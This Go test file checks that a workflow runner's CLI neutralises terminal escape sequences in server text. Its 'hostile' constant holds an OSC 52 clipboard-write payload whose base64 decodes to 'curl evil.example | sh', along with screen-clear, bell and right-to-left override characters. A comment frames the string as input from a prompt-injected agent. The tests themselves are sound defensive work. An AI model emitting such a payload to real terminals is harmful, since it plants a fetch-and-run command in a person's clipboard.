package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/gorunner/gorunner/api"
	"github.com/gorunner/gorunner/auth"
	"github.com/gorunner/gorunner/runner"
	"github.com/gorunner/gorunner/stack/stacktest"
)

// hostile is what an agent steered by a prompt injection puts in a run's input: OSC 52
// (set the reader's clipboard), a screen clear, a bell and a right-to-left override.
const hostile = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x1b[Hall good\u202e"

// TestServerTextCannotDriveTheTerminal performs the attack: a run's input, chosen by an
// agent, flows into a hook token and a fail step's message; a person then reads the run
// and the runs list with the CLI. Every control character arrives spelled out, never as
// the escape sequence it was.
func TestServerTextCannotDriveTheTerminal(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	st := stacktest.New(t, stacktest.Config{})
	srv := httptest.NewUnstartedServer(nil)
	a, err := api.New(api.Deps{Catalog: st.Catalog, Auth: st.Auth, Engine: st.Engine, Idempotency: st.Idempotency},
		&api.Config{PublicURL: "http://" + srv.Listener.Addr().String()})
	require.NoError(t, err)
	srv.Config.Handler = a
	srv.Start()
	t.Cleanup(srv.Close)
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "admin-token"), []byte(st.AdminToken+"\n"), 0o600))

	def := `{"name": "hostile",
		"input": {"type": "object", "properties": {"reason": {"type": "string"}}},
		"steps": [{"id": "wait", "hook": {"token": "t:${{ input.reason }}", "timeout": "1h"}},
		          {"id": "stop", "fail": {"message": "${{ input.reason }}"}}]}`
	wf, err := st.Catalog.Create(ctx, []byte(def))
	require.NoError(t, err)
	_, _, err = st.Catalog.Publish(ctx, wf.ID, auth.Local())
	require.NoError(t, err)
	input, err := json.Marshal(map[string]string{"reason": hostile})
	require.NoError(t, err)
	res, err := st.Engine.Submit(ctx, runner.SubmitParams{Workflow: "hostile", Input: input})
	require.NoError(t, err)
	id := res.Run.ID

	cli := func(args ...string) string {
		t.Helper()
		var out bytes.Buffer
		root := newRootCommand()
		root.SetArgs(append(args, "--url", srv.URL, "--data-dir", dir, "-o", "table"))
		root.SetOut(&out)
		root.SetErr(&out)
		require.NoError(t, root.ExecuteContext(ctx), out.String())
		return out.String()
	}
	requireInert := func(what, out string) {
		t.Helper()
		require.NotContains(t, out, "\x1b", what)
		require.NotContains(t, out, "\x07", what)
		require.NotContains(t, out, "\u202e", what)
		require.Contains(t, out, `\u001b]52;c;`, "%s: the text is there, spelled out", what)
	}

	reaches := func(s runner.Status) func() bool {
		return func() bool {
			r, err := st.Engine.Get(ctx, id)
			require.NoError(t, err)
			return r.Status == s
		}
	}
	require.Eventually(t, reaches(runner.StatusWaiting), 10*time.Second, 10*time.Millisecond)
	requireInert("runs get of the run waiting on its hook", cli("runs", "get", id))

	_, err = st.Engine.Resume(ctx, runner.EnvProduction, "t:"+hostile, json.RawMessage(`{}`))
	require.NoError(t, err)
	require.Eventually(t, reaches(runner.StatusFailed), 10*time.Second, 10*time.Millisecond)
	requireInert("runs get of the failed run", cli("runs", "get", id))
}

// TestErrorTextKeepsItsLines: the errors serve joins at shutdown stay on lines of their
// own, while what they quote is still spelled out; other text is left as it is.
func TestErrorTextKeepsItsLines(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		err  error
		want string
	}{
		{"joined", errors.Join(errors.New("stopping the engine: x"), errors.New("stopping the bus: y")),
			"stopping the engine: x\nstopping the bus: y"},
		{"quoting the server", errors.New("FAILED: " + hostile), printable("FAILED: " + hostile)},
		{"unicode", errors.New("workflow «café» ✓ 日本 — ok"), "workflow «café» ✓ 日本 — ok"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			require.Equal(t, tc.want, errorText(tc.err))
		})
	}
}
